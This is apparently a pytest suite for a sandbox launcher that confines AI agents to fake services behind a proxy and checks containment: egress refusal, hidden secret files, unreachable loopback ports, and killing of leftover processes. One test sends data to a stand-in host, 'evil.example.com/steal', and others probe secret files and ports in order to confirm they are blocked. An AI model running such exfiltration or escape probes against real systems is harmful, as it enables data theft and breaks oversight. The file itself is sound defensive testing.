"""The launcher, end to end: agents that ignore HTTPS_PROXY run in their namespace against the
session's real sandbox (proxy, fakes, control API on 127.0.0.1) and reach the fakes, and nothing else.

Each test runs real processes (curl, python, sh) under `run_process(..., isolation=...)`, exactly as
the runner does, in a fresh episode of the shared sandbox."""

from __future__ import annotations

import os
import shlex
import signal
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

from sandbox.episodes.store import EpisodeStore
from sandbox.isolation import Isolation, available
from sandbox.run.agent_env import agent_env
from sandbox.run.runner import run_process

pytestmark = pytest.mark.skipif(not available()[0], reason=f"isolation unavailable here: {available()[1]}")


class Agent:
    """A fresh episode of the session's sandbox and a way to run commands in it, isolated."""

    def __init__(self, sandbox, tmp_path: Path) -> None:
        self.sandbox = sandbox
        self.home = sandbox.home
        self.store = EpisodeStore(self.home)
        self.episode = self.store.create(0)
        self.env = {**os.environ, **agent_env(self.home, self.episode, sandbox.ports)}
        self.isolation = Isolation.for_episode(self.home, sandbox.ports, self.env)
        self.log = tmp_path / "agent.log"

    def run(self, command: list[str] | str, limit: float = 30) -> tuple[int | None, str]:
        argv = ["sh", "-c", command] if isinstance(command, str) else command
        code, _, error = run_process(argv, self.env, limit, self.log, isolation=self.isolation)
        assert error is None, error
        return code, self.log.read_text(errors="replace")

    def exchanges(self) -> list[tuple[str, str, str, int | None, str]]:
        with self.store.ledger(self.episode.id) as ledger:
            return [(e["via"], e["host"], e["path"], e["status"], e["outcome"]) for e in ledger.exchanges()]


@pytest.fixture
def agent(running_sandbox, tmp_path):
    handle = Agent(running_sandbox, tmp_path)
    yield handle
    handle.store.close()


def test_curl_ignoring_the_proxy_reaches_the_fake_through_the_proxy(agent):
    code, out = agent.run("curl -sS --noproxy '*' https://api.stripe.com/v1/customers?limit=1 -u \"$STRIPE_API_KEY:\"")
    assert code == 0, out
    assert '"object": "list"' in out
    assert agent.exchanges() == [("proxy", "api.stripe.com", "/v1/customers", 200, "routed")]


def test_the_proxy_url_and_the_base_urls_keep_working(agent):
    port = agent.sandbox.ports["services"]["payments"]
    code, out = agent.run(
        "curl -sS -o /dev/null -w '%{http_code} ' https://api.stripe.com/v1/customers?limit=1 "
        "-u \"$STRIPE_API_KEY:\"; curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' "
        "\"$SANDBOX_PAYMENTS_URL/v1/customers?limit=1\" -u \"$STRIPE_API_KEY:\"")
    assert (code, out) == (0, "200 200")
    # The base URL goes to the fake itself, which ledgers the exchange as `direct`, as outside.
    assert [(via, status) for via, _, _, status, _ in agent.exchanges()] == [("proxy", 200), ("direct", 200)]
    assert f":{port}" in agent.env["SANDBOX_PAYMENTS_URL"]


def test_host_loopback_ports_are_out_of_reach(agent):
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    probe = ("import socket, sys\n"
             "for port in sys.argv[1:]:\n"
             "    try:\n"
             "        socket.create_connection(('127.0.0.1', int(port)), timeout=3).close(); print(port, 'open')\n"
             "    except OSError as exc:\n"
             "        print(port, type(exc).__name__)\n")
    ports = [server.getsockname()[1], agent.sandbox.ports["control"]]
    code, out = agent.run([sys.executable, "-c", probe, *map(str, ports)])
    assert code == 0
    assert out.split("\n")[:2] == [f"{ports[0]} ConnectionRefusedError", f"{ports[1]} ConnectionRefusedError"]
    with pytest.raises(TimeoutError):
        server.accept()  # nothing came through
    server.close()


def test_other_hosts_are_refused_by_the_proxy_and_ledgered(agent):
    code, out = agent.run("curl -sS --noproxy '*' https://evil.example.com/steal -d x=1; "
                          "curl -sS --noproxy '*' http://plain.example.org/")
    assert "sandbox_egress_refused" in out
    refused = [(host, outcome) for _, host, _, _, outcome in agent.exchanges()]
    assert refused == [("evil.example.com", "refused"), ("plain.example.org", "refused")]
    # A literal address outside loopback has no route at all: refused at once, not after a timeout.
    started = time.monotonic()
    code, out = agent.run("curl -sS --noproxy '*' --max-time 5 https://192.0.2.1/ 2>&1; echo status=$?")
    assert time.monotonic() - started < 4 and "status=7" in out


def test_the_home_is_hidden_but_for_the_ca_certificate(agent):
    home = agent.home.root
    assert (home / "control.token").exists() or (home / "control.db").exists()
    secrets = [home / "ca" / "mitmproxy-ca.pem", home / "control.token", home / "control.db",
               home / "run" / "proxy.secret", agent.home.ledger_path(agent.episode.id)]
    script = "; ".join(f"test -r {shlex.quote(str(p))} && echo readable {p}" for p in secrets)
    quoted = shlex.quote(str(home))
    code, out = agent.run(f"{script}; cat {shlex.quote(str(agent.home.ca_cert))} | head -1; "
                          f"umount {quoted} 2>/dev/null && echo unmounted; echo $(ls -A {quoted})")
    assert "readable" not in out and "unmounted" not in out
    assert "-----BEGIN CERTIFICATE-----" in out
    assert out.split("\n")[1].split() == [".sandbox-isolation", "ca"]


def test_processes_the_agent_leaves_behind_die_with_it(agent):
    marker = f"{time.time_ns() % 10**6}.5"  # a sleep no one else runs
    code, out = agent.run(f"setsid sleep {marker} >/dev/null 2>&1 & (sleep {marker}; :) >/dev/null 2>&1 & echo started")
    assert (code, out.strip()) == (0, "started")
    deadline = time.monotonic() + 5
    while _running(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _running(marker)


def test_exit_status_and_death_by_signal_are_the_agents(agent):
    assert agent.run("exit 3")[0] == 3
    assert agent.run("kill -TERM $$")[0] == -signal.SIGTERM


def test_an_agent_that_cannot_start_says_so_before_any_namespace(agent):
    code, _, error = run_process(["no-such-agent-binary"], agent.env, 5, isolation=agent.isolation)
    assert (code, error) == (None, "no-such-agent-binary: No such file or directory")


def _running(marker: str) -> bool:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                return True
        except OSError:
            continue
    return False


def test_a_stopped_run_kills_the_whole_namespace(agent):
    marker = f"{time.time_ns() % 10**6}.25"
    stop = threading.Event()
    threading.Timer(1.0, stop.set).start()
    started = time.monotonic()
    code, timed_out, error = run_process(["sh", "-c", f"setsid sleep {marker} & sleep {marker}"], agent.env, 60,
                                         stop=stop, isolation=agent.isolation)
    assert time.monotonic() - started < 5 and not timed_out and error is None
    deadline = time.monotonic() + 5
    while _running(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _running(marker)
